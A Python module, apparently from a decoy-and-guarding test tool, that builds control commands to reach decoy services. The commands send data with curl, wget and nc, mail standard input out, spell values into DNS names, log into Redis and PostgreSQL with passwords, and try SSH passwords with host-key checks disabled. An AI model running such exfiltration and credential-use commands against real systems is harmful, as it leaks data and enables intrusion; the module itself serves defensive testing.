"""Commands with which the controls reach services. Pure."""

from __future__ import annotations

import posixpath
import struct
from typing import Final

from belljar.policy.guarding import DecoyKind

# A DNS name's payload: 180 hex digits and a name around them.
MAX_NAME_BYTES: Final = 90


_PYTHON: Final = (
    "import sys,urllib.request as u;url,token,body=sys.argv[1:];"
    "u.urlopen(u.Request(url,body.encode(),{'Authorization':'Bearer '+token} if token else "
    "{}),timeout=20).read()"
)


_PYTHON_STREAM: Final = (
    "import socket,sys;c=socket.create_connection((sys.argv[1],int(sys.argv[2])),20);"
    "c.sendall(sys.stdin.buffer.read());c.shutdown(1);\nwhile c.recv(4096):pass"
)


_PYTHON_MAIL: Final = (
    "import smtplib,sys;s=smtplib.SMTP(sys.argv[1],timeout=20);"
    "s.sendmail('worker@example.com',['partner@example.net'],sys.stdin.buffer.read())"
)


# OpenSSH takes a password from no argument: it asks a program for it.
_SSH: Final = r"""set -e
dir=$(mktemp -d)
trap 'rm -rf "$dir"' EXIT
export CONTROL_PASSWORD="$4" SSH_ASKPASS="$dir/ask" SSH_ASKPASS_REQUIRE=force DISPLAY=:0
printf '#!/bin/sh\nprintf "%%s\\n" "$CONTROL_PASSWORD"\n' >"$SSH_ASKPASS"
chmod 700 "$SSH_ASKPASS"
ssh -F /dev/null -p "$2" -l "$3" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
  -o PreferredAuthentications=password,keyboard-interactive -o PubkeyAuthentication=no \
  -o NumberOfPasswordPrompts=1 -o ConnectTimeout=20 -- "$1" id </dev/null
"""


def request(client: str, url: str, *, token: str, body: str) -> list[str]:
    """A command that sends a request. Pure."""
    header = f"Authorization: Bearer {token}"
    match client:
        case "curl":
            options = [
                *(["-H", header] if token else []),
                *(["--data-binary", body] if body else []),
            ]
            return ["curl", "-s", "-k", "-m", "20", "-o", "/dev/null", *options, "--", url]
        case "wget":
            options = [
                *([f"--header={header}"] if token else []),
                *([f"--post-data={body}"] if body else []),
            ]
            return ["wget", "-q", "-T", "20", "-O", "/dev/null", *options, url]
    return ["python3", "-c", _PYTHON, url, token, body]


def spelt(value: str) -> str:
    """A DNS name that spells a value. Pure."""
    digits = value.encode()[:MAX_NAME_BYTES].hex()
    labels = [digits[at : at + 60] for at in range(0, len(digits), 60)]
    return ".".join((*labels, "mirror.example"))


def login(kind: DecoyKind, password: str) -> bytes:
    """The login bytes of a non-HTTP client. Pure."""
    if kind is DecoyKind.REDIS:
        return f"AUTH {password}\r\nDBSIZE\r\nQUIT\r\n".encode()
    asked = struct.pack(">I", 3 << 16) + b"user\0crm_app\0database\0crm\0\0"
    secret = password.encode() + b"\0"
    parts = ((b"", asked), (b"p", secret), (b"Q", b"SELECT * FROM customers\0"), (b"X", b""))
    return b"".join(head + struct.pack(">I", len(body) + 4) + body for head, body in parts)


def stream_request(client: str, host: str, port: int) -> list[str]:
    """A command that sends standard input over TCP. Pure."""
    match client:
        case "curl":
            return ["curl", "-s", "-m", "10", "-o", "/dev/null", f"telnet://{host}:{port}"]
        case "nc":
            return ["nc", "-w", "10", host, str(port)]
    return ["python3", "-c", _PYTHON_STREAM, host, str(port)]


def ssh_request(key: str) -> list[str]:
    """A command that logs in with a decoy key; its `config` and `known_hosts` are beside it.
    Pure.
    """
    folder, name = posixpath.split(key)
    config = posixpath.join(folder, "config" if name != "config" else "ssh_config")
    known = f"UserKnownHostsFile={posixpath.join(folder, 'known_hosts')}"
    options = ["-o", "BatchMode=yes", "-o", "ConnectTimeout=20"]
    return ["ssh", "-F", config, "-i", key, "-o", known, *options, "bastion", "id"]


def ssh_password_request(host: str, port: int, password: str) -> list[str]:
    """A command that tries an SSH password. Pure."""
    from belljar.signals.decoy_services import SSH_USER

    return ["sh", "-c", _SSH, "sh", host, str(port), SSH_USER, password]


def mail_request(client: str, place: str) -> list[str]:
    """A command that mails its standard input. Pure."""
    if client == "curl":
        people = ["--mail-from", "worker@example.com", "--mail-rcpt", "partner@example.net"]
        return ["curl", "-s", "-m", "20", f"smtp://{place}", *people, "-T", "-"]
    return ["python3", "-c", _PYTHON_MAIL, place]
